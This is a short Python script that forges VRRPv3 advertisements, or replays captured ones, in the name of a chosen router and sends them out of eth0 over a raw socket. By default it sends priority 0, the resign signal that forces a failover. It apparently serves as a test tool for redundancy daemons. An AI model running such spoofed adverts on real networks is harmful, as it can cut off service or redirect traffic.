#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""Adverts that no router sent: forged ones, or those of a capture once more, out of eth0."""
import argparse
import socket
import struct
import sys

VRRP = 112
GROUP = "224.0.0.18"
GROUP_MAC = bytes.fromhex("01005e000012")


def arguments():
    p = argparse.ArgumentParser(description=__doc__)
    p.add_argument("--src", required=True, help="the router that is said to speak")
    p.add_argument("--replay", metavar="PCAP", help="its last advert of this capture, as it was")
    p.add_argument("--priority", type=int, default=0)
    p.add_argument("--id", type=int, default=51)
    p.add_argument("--vip", default="10.77.0.100")
    p.add_argument("--interval", type=int, default=50, help="centiseconds")
    return p.parse_args()


def checksum(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def forged(a):
    src, dst = socket.inet_aton(a.src), socket.inet_aton(GROUP)

    def message(check):
        return struct.pack("!BBBBHH4s", 0x31, a.id, a.priority, 1, a.interval, check,
                           socket.inet_aton(a.vip))

    def header(check):
        return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(message(0)), 0, 0, 255, VRRP, check,
                           src, dst)
    pseudo = src + dst + struct.pack("!BBH", 0, VRRP, len(message(0)))
    return (GROUP_MAC + b"\x02\0\0\0\0\x66\x08\0" + header(checksum(header(0))) +
            message(checksum(pseudo + message(0))))


def frames(path):
    with open(path, "rb") as f:
        order = "<" if f.read(24)[:4] in (b"\xd4\xc3\xb2\xa1", b"\x4d\x3c\xb2\xa1") else ">"
        while len(head := f.read(16)) == 16:
            yield f.read(struct.unpack(order + "IIII", head)[2])


def recorded(a):
    src = socket.inet_aton(a.src)
    found = [x for x in frames(a.replay)
             if x[12:14] == b"\x08\0" and x[23] == VRRP and x[26:30] == src and x[36] != 0]
    return found[-1] if found else sys.exit("no advert of %s in %s" % (a.src, a.replay))


def main():
    a = arguments()
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind(("eth0", 0))
    s.send((recorded(a) if a.replay else forged(a)).ljust(60, b"\0"))


main()
